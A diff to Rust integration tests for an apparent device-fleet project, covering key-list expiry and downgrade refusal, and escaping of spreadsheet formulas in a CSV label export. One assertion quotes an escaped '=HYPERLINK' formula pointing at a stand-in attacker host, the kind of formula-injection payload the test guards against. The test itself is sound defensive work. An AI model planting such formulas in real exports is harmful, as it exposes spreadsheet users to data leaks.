@@ -61,6 +61,7 @@ fn wait(
 /// signed by A naming the expired list, and refuses the older v1 list the attacker puts back
 /// (still valid, a downgrade). A fresh list v3 brings A back, and the device follows v2 (the
 /// desired state it refused, asked for again).
+// long-function: one attack's story in order (list, lapse, refusal, downgrade, renewal)
 fn a_withheld_key_list_stops_being_trusted(kind: BrokerKind) {
     let w = Scratch::new();
     let f = fixture();
@@ -183,7 +184,13 @@ fn a_withheld_key_list_stops_being_trusted(kind: BrokerKind) {
     if let Some((now, st)) = early.take() {
         panic!("keys dropped at {now}, before the expiry at {expires}: {st:?}");
     }
-    assert!(now_unix() >= expires, "lapsed before {expires}: {st:?}");
+    let now = now_unix();
+    assert!(now >= expires, "lapsed before {expires}: {st:?}");
+    // The device's own clock does it (no message needs to arrive), within a few ticks.
+    assert!(
+        now <= expires + 15,
+        "lapse seen at {now}, {expires} + 15 s: {st:?}"
+    );
     let why = st.refused.clone().unwrap_or_default();
     assert!(
         why.starts_with("kestrel/keys: ") && why.contains("no longer trusted"),
@@ -240,12 +247,21 @@ fn a_withheld_key_list_stops_being_trusted(kind: BrokerKind) {
         (Some(3), Some(1)),
         "{v3}"
     );
+    wait(
+        &b.config(),
+        device,
+        &agent,
+        60,
+        "key list v3 in force",
+        |st| st.keys_version == Some(3),
+    );
     let st = wait(
         &b.config(),
         device,
         &agent,
         120,
-        "v2 active under key list v3",
+        "v2 active under key list v3 (the retained desired state it refused during the lapse, \
+         read again once a newer list is in force)",
         |st| st.keys_version == Some(3) && st.active == Some(2) && st.state == "idle",
     );
     assert_eq!(st.previous, Some(1), "{st:?}");
@@ -288,6 +304,7 @@ const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 /// line breaks); and the exported file, its label column filled in by a tool that rewrites it,
 /// labels exactly its rows with `trainer label --from` (the escaped paths name their rows).
 #[test]
+// long-function: one export's story (hostile captures, collect, export, read back, label)
 fn label_export_escapes_formulas_from_devices() {
     let w = Scratch::new();
     let b = Broker::start(BrokerKind::Rumqttd, &w.join("broker"));
@@ -380,7 +397,14 @@ fn label_export_escapes_formulas_from_devices() {
     let todo = w.join("todo.csv");
     let o = run(
         "trainer",
-        &["label", "--table", &s(&table), "--export", &s(&todo), "--json"],
+        &[
+            "label",
+            "--table",
+            &s(&table),
+            "--export",
+            &s(&todo),
+            "--json",
+        ],
     );
     assert!(o.status.success(), "{}", stderr(&o));
     assert_eq!(kestrel_tests::json(&o)["exported"], hostile.len());
@@ -445,7 +469,10 @@ fn label_export_escapes_formulas_from_devices() {
         assert!(!cell.starts_with(FORMULA), "cell {i} runs: {cell:?}\n{raw}");
     }
     // The raw text: every record begins with a path, never with a formula character.
-    assert!(raw.contains("'=HYPERLINK(\"\"http://evil.example/"), "{raw}");
+    assert!(
+        raw.contains("'=HYPERLINK(\"\"http://evil.example/"),
+        "{raw}"
+    );
     let honest = rows[1..].iter().find(|r| r[0] == "pi-honest/1-4").unwrap();
     assert_eq!(
         (honest[3].as_str(), honest[5].as_str(), honest[7].as_str()),
@@ -515,7 +542,14 @@ fn label_export_escapes_formulas_from_devices() {
     let again = w.join("again.csv");
     let o = run(
         "trainer",
-        &["label", "--table", &s(&table), "--export", &s(&again), "--json"],
+        &[
+            "label",
+            "--table",
+            &s(&table),
+            "--export",
+            &s(&again),
+            "--json",
+        ],
     );
     assert!(o.status.success(), "{}", stderr(&o));
     assert_eq!(kestrel_tests::json(&o)["exported"], 1);
